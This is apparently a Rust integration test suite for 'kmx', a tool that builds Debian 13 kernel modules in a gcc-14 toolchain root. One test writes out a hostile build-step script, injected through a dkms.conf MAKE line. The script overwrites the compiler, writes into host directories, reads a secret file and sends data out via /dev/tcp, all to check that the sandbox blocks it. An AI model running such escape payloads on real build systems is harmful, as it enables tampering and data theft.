//! Debian 13 (trixie) kernels from this Debian 12 host: their trees call gcc-14, which the
//! host lacks; `kmx kernels fetch` assembled a toolchain root from trixie's own packages
//! (under `./dev test`, for amd64, arm64 and the Raspberry Pi Zero/1's rpi flavour among the
//! fetched targets), and a cell of a trixie tree builds with that root as its view's `/`. Checked against the real things: the
//! compiler identity GCC writes into each `.ko` (`readelf -p .comment`), kmod's vermagic, and
//! the real trixie kernels booted under QEMU loading the module. A trixie tree without its
//! root is refused, never built with the host's gcc-12; and a hostile build step in the
//! root's view reaches none of what it aims at, while the same checks see it succeed where
//! the view allows it.

use std::path::{Path, PathBuf};
use std::process::Command;

use crate::support::*;

/// The newest trixie tree (`+deb13`) of each of `targets`: (target, release, vermagic, kdir).
fn trixie_trees(k: &Kmx, targets: &[&str]) -> Option<Vec<(String, String, String, PathBuf)>> {
    let list = k.run(&["kernels", "list", "--json"]).ok().json();
    let mut found = Vec::new();
    for target in targets {
        let mut trees: Vec<&serde_json::Value> = list["trees"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|t| t["target"] == *target)
            .filter(|t| t["release"].as_str().unwrap().contains("+deb13"))
            .collect();
        trees.sort_by_key(|t| {
            let r = t["release"].as_str().unwrap();
            r.split(|c: char| !c.is_ascii_digit())
                .filter_map(|n| n.parse::<u64>().ok())
                .collect::<Vec<_>>()
        });
        let Some(t) = trees.last() else {
            skip_or_fail(&format!(
                "no Debian 13 tree for {target}: `kmx kernels fetch -t {target} --with-image` (./dev test does)"
            ));
            return None;
        };
        found.push((
            target.to_string(),
            t["release"].as_str().unwrap().to_string(),
            t["vermagic"].as_str().unwrap().to_string(),
            PathBuf::from(t["kdir"].as_str().unwrap()),
        ));
    }
    Some(found)
}

fn comment(ko: &Path) -> String {
    let out = Command::new("readelf")
        .args(["-p", ".comment"])
        .arg(ko)
        .output()
        .unwrap();
    assert!(out.status.success(), "readelf failed on {}", ko.display());
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The example built for trixie's amd64, arm64 and rpi (armel, ARMv6) kernels carries
/// gcc-14's identity and the trees' vermagic, passes `kmx verify`, and loads on the real
/// kernels booted under QEMU (rpi's on the raspi0 board).
#[test]
fn the_example_builds_with_trixies_gcc_14_and_loads_on_trixies_kernels() {
    let Some(k) = Kmx::with_all_trees() else {
        return;
    };
    let Some(trees) = trixie_trees(&k, &["amd64", "arm64", "rpi"]) else {
        return;
    };
    let out = k.dir().join("out");
    let mut args = vec![
        "build".to_string(),
        repo().join("examples/hello").display().to_string(),
        "-t".into(),
        "amd64,arm64,rpi".into(),
        "--out".into(),
        out.display().to_string(),
    ];
    for (_, release, _, _) in &trees {
        args.extend(["-k".to_string(), release.clone()]);
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let built = k.run(&args).ok();
    assert!(
        built.stderr().contains("3 built, 0 skipped, 0 failed"),
        "{}",
        built.stderr()
    );
    for (target, release, vermagic, _) in &trees {
        let ko = out.join(format!("hello/1.0/{release}/{target}/hello.ko"));
        let c = comment(&ko);
        assert!(c.contains("GCC: (Debian 14."), "{target}: {c}");
        assert!(!c.contains("GCC: (Debian 12."), "{target}: {c}");
        assert_eq!(modinfo("vermagic", &ko), *vermagic, "{target}");
    }
    let verified = k.run(&["verify", out.to_str().unwrap()]).ok();
    assert!(
        verified.stdout().contains("0 failed") || verified.stderr().contains("0 failed"),
        "{}{}",
        verified.stdout(),
        verified.stderr()
    );
    let smoke = k
        .run(&["smoke", out.to_str().unwrap(), "-t", "amd64,arm64,rpi"])
        .ok();
    let text = format!("{}{}", smoke.stdout(), smoke.stderr());
    assert!(text.contains("3 loaded, 0 refused"), "{text}");
    assert_eq!(
        text.matches("hello: hello, world (built by kmx)").count(),
        3,
        "{text}"
    );
    for (target, release, _, _) in &trees {
        assert!(
            text.lines()
                .any(|l| l.starts_with(&format!("{target:<8} {release} "))
                    && l.contains("booted in")),
            "{target} {release}: {text}"
        );
    }
}

/// A trixie tree without its toolchain root (its sysroot copied, without the link kmx made)
/// is refused by `kmx doctor` and by the build, naming gcc-14: never built with gcc-12.
#[test]
fn a_trixie_tree_without_its_toolchain_root_is_refused() {
    let Some(fetched) = Kmx::with_all_trees() else {
        return;
    };
    let Some(trees) = trixie_trees(&fetched, &["amd64"]) else {
        return;
    };
    if which("x86_64-linux-gnu-gcc-14") {
        skip_or_fail("this host has gcc-14 itself: nothing to refuse");
        return;
    }
    let (_, release, _, kdir) = &trees[0];
    let sysroot = kdir.parent().unwrap().parent().unwrap().parent().unwrap();
    let k = Kmx::empty();
    let copy = k.dir().join("sysroot");
    std::fs::create_dir_all(&copy).unwrap();
    // Hard links: instant, and the shared trees are never written.
    let st = Command::new("cp")
        .arg("-al")
        .arg(sysroot.join("usr"))
        .arg(&copy)
        .status()
        .unwrap();
    assert!(st.success());
    let kdir = copy.join("usr/src").join(kdir.file_name().unwrap());
    let conf = k.dir().join("conf/targets");
    write(
        &conf.join("amd64.toml"),
        &std::fs::read_to_string(repo().join("targets/amd64.toml"))
            .unwrap()
            .replace(
                "fetched = true",
                &format!("fetched = false\npaths = [\"{}\"]", kdir.display()),
            ),
    );
    let conf_dir = k.dir().join("conf");
    let conf_dir = conf_dir.to_str().unwrap();
    let doctor = k.run(&["--config-dir", conf_dir, "doctor", "-t", "amd64"]);
    let text = format!("{}{}", doctor.stdout(), doctor.stderr());
    let why = format!(
        "x86_64-linux-gnu-gcc-14 not found: kernel {release} was built with \"x86_64-linux-gnu-gcc-14 (Debian 14."
    );
    assert!(text.contains(&why), "{text}");
    assert!(text.contains("assembles a toolchain root"), "{text}");
    assert!(
        text.contains("amd64 (x86-64, Debian amd64 kernels): UNUSABLE"),
        "{text}"
    );
    let out = k.dir().join("out");
    let built = k
        .run(&[
            "--config-dir",
            conf_dir,
            "build",
            repo().join("examples/hello").to_str().unwrap(),
            "-t",
            "amd64",
            "-k",
            release,
            "--out",
            out.to_str().unwrap(),
        ])
        .expect(3);
    assert!(built.stderr().contains(&why), "{}", built.stderr());
    assert!(!out.join("hello").exists());
}

fn which(program: &str) -> bool {
    Command::new("bash")
        .args(["-c", &format!("command -v {program}")])
        .output()
        .is_ok_and(|o| o.status.success())
}

/// A MAKE line that first tries its way out of the toolchain root's view: overwrite the
/// root's compiler, write into the root's directory in kmx's home, into the kernel tree, into
/// a host directory, read a host file, reach a host listener. Under the default sandbox none
/// succeeds and the module still builds; under `--sandbox open` the tree and the network are
/// the host's (as under DKMS) and the checks see those writes, but the root stays read-only
/// and nothing else of the host is in the view; and on a Debian 12 tree (the host's own
/// root, `--sandbox open`) the same payload reaches every host target: each check can see an
/// escape.
#[test]
fn a_hostile_step_in_the_toolchain_roots_view_reaches_nothing() {
    let Some(k) = Kmx::with_all_trees() else {
        return;
    };
    let Some(trees) = trixie_trees(&k, &["amd64"]) else {
        return;
    };
    let (_, release, _, kdir) = &trees[0];
    let roots = kdir
        .join("../../../.kmx-toolchains")
        .canonicalize()
        .unwrap();
    let gcc = roots.join("x86_64-linux-gnu-gcc-14/usr/bin/x86_64-linux-gnu-gcc-14");
    let gcc_before = std::fs::read(&gcc).unwrap();
    let bookworm = k.run(&["kernels", "list", "--json"]).ok().json()["trees"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["target"] == "amd64" && t["release"].as_str().unwrap().starts_with("6.1.0-"))
        .map(|t| t["release"].as_str().unwrap().to_string())
        .unwrap();
    // Outside /tmp, which every step gets privately.
    let host = tempfile::Builder::new()
        .prefix("kmx-trixie-host-")
        .tempdir_in("/var/tmp")
        .unwrap();
    let victim = host.path();
    let token = format!("{}", std::process::id());
    let secret = format!("SECRET-{token}");
    std::fs::write(victim.join("secret"), &secret).unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let tree_file = kdir.join(format!("kmx-escape-{token}"));
    let payload = format!(
        r#"#!/bin/bash
ctx=$1
t() {{ timeout 5 "$@" </dev/null >/dev/null 2>&1; }}
# The root's compiler and a new file beside it, as the view names them (on the host's own
# root, under open, these would be the host's /usr/bin: not aimed at there).
if [ "$ctx" != host-open ]; then
  t bash -c "echo x > /usr/bin/x86_64-linux-gnu-gcc-14"
  t bash -c "echo x > /usr/bin/kmx-escape-$ctx"
fi
t bash -c "echo x > '{roots}/escape-$ctx'"
t bash -c "echo x > '{tree}-$ctx'"
t bash -c "echo x > '{victim}/write-$ctx'"
echo "READ $ctx $(cat '{victim}/secret' 2>/dev/null)"
t bash -c "echo $ctx > /dev/tcp/127.0.0.1/{port}"
echo "PAYLOAD-RAN $ctx"
"#,
        roots = roots.display(),
        tree = tree_file.display(),
        victim = victim.display(),
    );
    let cleanup = || {
        for e in std::fs::read_dir(kdir)
            .unwrap()
            .chain(std::fs::read_dir(&roots).unwrap())
            .flatten()
        {
            let name = e.file_name().to_string_lossy().into_owned();
            if name.starts_with("kmx-escape-") || name.starts_with("escape-") {
                let _ = std::fs::remove_file(e.path());
            }
        }
    };
    let mut report = Vec::new();
    for (ctx, mode, kernel) in [
        ("strict", "strict", release.as_str()),
        ("open", "open", release.as_str()),
        ("host-open", "open", bookworm.as_str()),
    ] {
        let src = k.dir().join(format!("esc-{ctx}"));
        std::fs::create_dir_all(&src).unwrap();
        std::fs::copy(repo().join("examples/hello/hello.c"), src.join("hello.c")).unwrap();
        std::fs::copy(repo().join("examples/hello/Kbuild"), src.join("Kbuild")).unwrap();
        write(&src.join("payload.sh"), &payload);
        write(
            &src.join("dkms.conf"),
            &format!(
                "PACKAGE_NAME=esc\nPACKAGE_VERSION=1.0\nBUILT_MODULE_NAME[0]=hello\nDEST_MODULE_LOCATION[0]=/extra\n\
                 MAKE[0]=\"bash ./payload.sh {ctx}; make -C ${{kernel_source_dir}} M=${{dkms_tree}}/${{PACKAGE_NAME}}/${{PACKAGE_VERSION}}/build\"\n"
            ),
        );
        let out = k.dir().join(format!("out-{ctx}"));
        let built = k
            .run(&[
                "build",
                src.to_str().unwrap(),
                "-t",
                "amd64",
                "-k",
                kernel,
                "--sandbox",
                mode,
                "--out",
                out.to_str().unwrap(),
            ])
            .ok();
        assert!(
            built.stderr().contains("1 built"),
            "{ctx}: {}",
            built.stderr()
        );
        let log: String = std::fs::read_dir(out.join("logs"))
            .unwrap()
            .flatten()
            .map(|e| std::fs::read_to_string(e.path()).unwrap_or_default())
            .collect();
        assert!(log.contains(&format!("PAYLOAD-RAN {ctx}")), "{ctx}: {log}");
        let mut said = Vec::new();
        while let Ok((s, _)) = listener.accept() {
            use std::io::Read;
            s.set_nonblocking(false).unwrap();
            let mut text = String::new();
            let _ = (&s).read_to_string(&mut text);
            said.push(text.trim().to_string());
        }
        let mut got: Vec<&str> = Vec::new();
        if std::fs::read(&gcc).unwrap() != gcc_before
            || roots
                .join("x86_64-linux-gnu-gcc-14/usr/bin")
                .join(format!("kmx-escape-{ctx}"))
                .exists()
        {
            got.push("root");
        }
        if roots.join(format!("escape-{ctx}")).exists() {
            got.push("kmx-home");
        }
        if Path::new(&format!("{}-{ctx}", tree_file.display())).exists() {
            got.push("tree");
        }
        if victim.join(format!("write-{ctx}")).exists() {
            got.push("host-write");
        }
        if log.contains(&format!("READ {ctx} {secret}")) {
            got.push("host-read");
        }
        if said.iter().any(|s| s == ctx) {
            got.push("network");
        }
        report.push(format!("{ctx}: reached {got:?}"));
        cleanup();
        let want: &[&str] = match ctx {
            "strict" => &[],
            "open" => &["tree", "network"],
            _ => &["kmx-home", "tree", "host-write", "host-read", "network"],
        };
        assert_eq!(got, want, "{ctx}\n{}", report.join("\n"));
    }
    // The root never changed, whatever ran.
    assert_eq!(std::fs::read(&gcc).unwrap(), gcc_before);
    eprintln!("{}", report.join("\n"));
}

/// An HTTP relay to Debian's security archive that answers 404 for the files whose names
/// start with one of `withheld` (as a mirror between two syncs does: its index names files its
/// pool lacks) and relays every other request; it logs each file asked for with the status
/// it answered.
struct Relay {
    port: u16,
    log: std::sync::Arc<std::sync::Mutex<Vec<(String, String)>>>,
}

impl Relay {
    fn start(upstream: &str, withheld: Vec<String>) -> Relay {
        use std::io::{BufRead, BufReader, Read, Write};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let log = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let (upstream, logged) = (upstream.to_string(), log.clone());
        std::thread::spawn(move || {
            for client in listener.incoming().flatten() {
                let (upstream, withheld, log) =
                    (upstream.clone(), withheld.clone(), logged.clone());
                std::thread::spawn(move || {
                    let mut reader = BufReader::new(&client);
                    let mut first = String::new();
                    if reader.read_line(&mut first).is_err() {
                        return;
                    }
                    loop {
                        let mut l = String::new();
                        if reader.read_line(&mut l).unwrap_or(0) == 0 || l == "\r\n" {
                            break;
                        }
                    }
                    let path = first.split_whitespace().nth(1).unwrap_or("/").to_string();
                    let file = path
                        .rsplit('/')
                        .next()
                        .unwrap_or("")
                        .replace("%2b", "+")
                        .replace("%2B", "+");
                    let mut out = &client;
                    if withheld.iter().any(|w| file.starts_with(w.as_str())) {
                        log.lock().unwrap().push((file, "404 (withheld)".into()));
                        let _ = out.write_all(
                            b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                        );
                        return;
                    }
                    let Ok(mut up) = std::net::TcpStream::connect(format!("{upstream}:80")) else {
                        return;
                    };
                    let _ = write!(
                        up,
                        "GET {path} HTTP/1.1\r\nHost: {upstream}\r\nConnection: close\r\n\r\n"
                    );
                    let mut up = BufReader::new(up);
                    let mut status = String::new();
                    let _ = up.read_line(&mut status);
                    let mut head = status.clone();
                    loop {
                        let mut l = String::new();
                        if up.read_line(&mut l).unwrap_or(0) == 0 || l == "\r\n" {
                            break;
                        }
                        let name = l.to_ascii_lowercase();
                        if !name.starts_with("connection:") && !name.starts_with("keep-alive:") {
                            head.push_str(&l);
                        }
                    }
                    head.push_str("Connection: close\r\n\r\n");
                    let code = status.split_whitespace().nth(1).unwrap_or("?").to_string();
                    log.lock().unwrap().push((file, code));
                    let _ = out.write_all(head.as_bytes());
                    let mut body = Vec::new();
                    let _ = up.read_to_end(&mut body);
                    let _ = out.write_all(&body);
                });
            }
        });
        Relay { port, log }
    }
}

/// An ABI whose packages the archive does not serve gives way to the next newest of its
/// series that downloads, and kmx says which and why. The rpi target fetches from
/// trixie-security through a relay that withholds the rpi flavour of every ABI in the index
/// newer than the trixie rpi tree `./dev test` fetched (the mirror itself may 404 on some of
/// them: they count the same); that tree is given to this home (hard links, with its
/// toolchain root), so the fallback costs only the lists and the refused requests. The
/// fetch must succeed, say a skip with the archive's 404 for each newer ABI (each one the
/// relay saw asked for and answered 404), and register exactly the fetched tree's ABI.
#[test]
fn a_fetch_passes_over_abis_whose_packages_do_not_download() {
    let Some(fetched) = fetched_home() else {
        return;
    };
    let registry = fetched_registry(&fetched);
    let Some(tree) = registry["trees"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|t| t["target"] == "rpi" && t["abi"].as_str().unwrap_or("").contains("+deb13"))
        .max_by_key(|t| kmx::kernel::fetch::abi_key(t["abi"].as_str().unwrap()))
    else {
        skip_or_fail("no trixie rpi tree: `kmx kernels fetch -t rpi` (./dev test does)");
        return;
    };
    let abi = tree["abi"].as_str().unwrap().to_string();
    // The index's rpi ABIs, from the fetched home's own trixie-security lists.
    let state = fetched.join("apt/deb.debian.org_debian-security_trixie-security_main");
    let names = Command::new("apt-cache")
        .args(["pkgnames", "linux-headers-"])
        .env("APT_CONFIG", state.join("apt.conf"))
        .output()
        .unwrap();
    let newer: Vec<String> = String::from_utf8_lossy(&names.stdout)
        .lines()
        .filter_map(|n| kmx::kernel::fetch::abi_of(n, "rpi"))
        .filter(|a| kmx::kernel::fetch::abi_series(a) == kmx::kernel::fetch::abi_series(&abi))
        .filter(|a| kmx::kernel::fetch::abi_key(a) > kmx::kernel::fetch::abi_key(&abi))
        .collect();
    if newer.is_empty() {
        skip_or_fail(&format!(
            "{abi} is the newest trixie-security rpi ABI: no newer one to withhold"
        ));
        return;
    }
    let withheld: Vec<String> = newer
        .iter()
        .map(|a| format!("linux-headers-{a}-rpi_"))
        .collect();
    let relay = Relay::start("deb.debian.org", withheld);
    let k = Kmx::empty();
    for part in [
        format!("trees/debian-{abi}"),
        "toolchains/debian-trixie/arm-linux-gnueabi-gcc-14".to_string(),
    ] {
        let to = k.home.join(&part);
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        let st = Command::new("cp")
            .arg("-al")
            .arg(fetched.join(&part))
            .arg(&to)
            .status()
            .unwrap();
        assert!(st.success(), "cp -al {part}");
    }
    let conf = k.dir().join("conf");
    let profile = std::fs::read_to_string(repo().join("targets/rpi.toml")).unwrap();
    let head = &profile[..profile.find("[[kernels.source]]").unwrap()];
    let boot = &profile[profile.find("[boot]").unwrap()..];
    write(
        &conf.join("targets/rpi.toml"),
        &format!(
            "{head}[[kernels.source]]\nurl = \"http://127.0.0.1:{}/debian-security\"\nsuite = \"trixie-security\"\nkeyring = \"/usr/share/keyrings/debian-archive-keyring.gpg\"\nname = \"debian\"\n\n{boot}",
            relay.port
        ),
    );
    let run = k.run(&[
        "--config-dir",
        conf.to_str().unwrap(),
        "kernels",
        "fetch",
        "-t",
        "rpi",
    ]);
    let said = run.stderr();
    assert_eq!(run.code(), 0, "{said}");
    let log = relay.log.lock().unwrap().clone();
    for a in &newer {
        let file = format!("linux-headers-{a}-rpi_");
        assert!(
            log.iter()
                .any(|(f, code)| f.starts_with(&file) && code.starts_with("404")),
            "{a}: the relay did not refuse it: {log:?}\n{said}"
        );
        assert!(
            said.lines().any(|l| l.starts_with(&format!(
                "rpi: skipping kernel ABI {a} from debian trixie-security: its packages do not download (linux-headers-{a}-rpi: 404 Not Found"
            ))),
            "{a}: not said\n{said}"
        );
    }
    assert_eq!(
        said.matches("skipping kernel ABI").count(),
        newer.len(),
        "{said}"
    );
    assert!(
        said.contains(&format!(
            "taking the next newest, {abi} from debian trixie-security"
        )),
        "{said}"
    );
    assert!(
        said.lines()
            .any(|l| l.starts_with("rpi      present") && l.contains(&format!(" {abi}-rpi "))),
        "{said}"
    );
    let list = k
        .run(&[
            "--config-dir",
            conf.to_str().unwrap(),
            "kernels",
            "list",
            "--json",
        ])
        .ok()
        .json();
    let releases: Vec<&str> = list["trees"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|t| t["target"] == "rpi")
        .filter_map(|t| t["release"].as_str())
        .collect();
    assert_eq!(releases, [format!("{abi}-rpi")], "{list}");
}
